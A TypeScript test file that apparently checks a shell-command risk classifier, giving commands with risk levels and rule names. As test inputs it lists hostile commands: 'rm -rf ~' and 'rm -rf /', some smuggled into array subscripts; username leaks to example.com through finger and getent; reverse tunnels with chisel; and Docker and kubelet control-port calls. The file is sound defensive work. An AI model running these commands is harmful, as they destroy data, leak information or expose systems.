import { holds } from '../holds.ts';

describe('Programs that lead outward', () => {
  holds('low', [
    'lynx -dump docs/index.html',
    'vcpkg list',
    'machinectl list',
    'btrfs subvolume list src',
    'pydoc json',
    'xsv stats a.csv',
    'nc -z localhost 3000',
    'caddy --version',
  ]);
  holds('high', [
    ['lynx -dump https://example.com', 'network.reach'],
    ['w3m example.com', 'network.reach'],
    ['w3m -post a.txt https://example.com', 'network.send'],
    ['links "$URL"', 'network.reach'],
    ['finger "$(whoami)@example.com"', 'network.send'],
    ['chisel client example.com R:socks', 'remote.exposes'],
    ['sshuttle -r a@example.com 0/0', 'remote.exposes'],
    ['busybox httpd -f -p 8080', 'network.listens'],
    ['ttyd bash', 'network.listens'],
    ['pastebinit a.txt', 'remote.uploads'],
    ['vcpkg install fmt', 'tool.installed'],
    ['mosquitto_pub -t a -m b', 'remote.changes'],
    ['yt-dlp https://example.com/v', 'remote.downloads'],
    ['bfg --delete-files "*.ts"', 'git.rewritesHistory'],
    ['machinectl shell root@', 'wrapper.otherNamespace'],
    ['btrfs subvolume delete data', 'disks.format'],
    ['curl -X DELETE http://localhost:2375/containers/a', 'network.controlPort'],
    ['curl -d x http://127.0.0.1:10250/run/a', 'network.controlPort'],
    ['siege -c 5 example.com', 'network.send'],
    ['python3 -m http.server --bind 0.0.0.0', 'interpreter.serves'],
    ['php -S 0.0.0.0:8000', 'interpreter.serves'],
    ['ruby -run -e httpd . -p 9090', 'interpreter.serves'],
  ]);
  holds('medium', [
    ['curl http://localhost:9229/json', 'network.controlPort'],
    ["curl -X DELETE 'localhost:9200/users'", 'network.localChange'],
    ['python3 -m http.server 8000', 'interpreter.serves'],
    ['hivemind', 'builds.outlives'],
  ]);
  holds('critical', [['sqlmap -u http://example.com', 'outward.attacks']]);
});

describe('Names and words that the shell evaluates', () => {
  holds('low', ['printf "%s" "a[1]"']);
  holds('high', [
    ['getent hosts "$(whoami).example.com"', 'network.send'],
    ['node inspect -p 12', 'process.attach'],
    ["PS1='$(id)' bash -i", 'environment.loads'],
  ]);
  holds('critical', [
    ["let 'a[$(rm -rf ~)]=1'", 'shell.subscript'],
    ["printf -v 'a[$(rm -rf /)]' x", 'shell.subscript'],
    ["unset 'a[$(rm -rf ~)]'", 'shell.subscript'],
    ["compgen -W '$(rm -rf ~)'", 'delete.everything'],
    ["complete -C 'rm -rf ~' x", 'delete.everything'],
  ]);
  holds('high', [
    ["test -v 'a[`git push`]'", 'shell.subscript'],
    ["wait -n -p 'a[$(git push)]'", 'shell.subscript'],
    ["export 'a[$(git push)]=1'", 'shell.subscript'],
    ["mapfile -t 'a[$(git push)]'", 'shell.subscript'],
  ]);
});

describe('Words that come through xargs', () => {
  holds('low', ["printf 'a.ts\\nb.ts\\n' | xargs cat", 'echo src | xargs -I{} ls {}', 'git ls-files | xargs wc -l']);
  holds('medium', [
    ["echo '-exec sh p.sh ;' | xargs find .", 'script.unread'],
    ['cat list.txt | xargs -a names.txt find', 'xargs.unknownWords'],
  ]);
  holds('high', [
    ['xargs -a names.txt chmod -R 777', 'xargs.unknownWords'],
    ['curl-less-list | xargs kill', 'xargs.unknownWords'],
    ['cat hosts.txt | tr a b | cut -f1 | xargs curl', 'network.reach'],
  ]);
  holds('critical', [
    ['echo / | xargs rm -rf', 'delete.everything'],
    ['echo ~ | xargs -I{} rm -rf {}/', 'delete.everything'],
    ["xargs rm -rf <<< '/'", 'delete.everything'],
  ]);
});
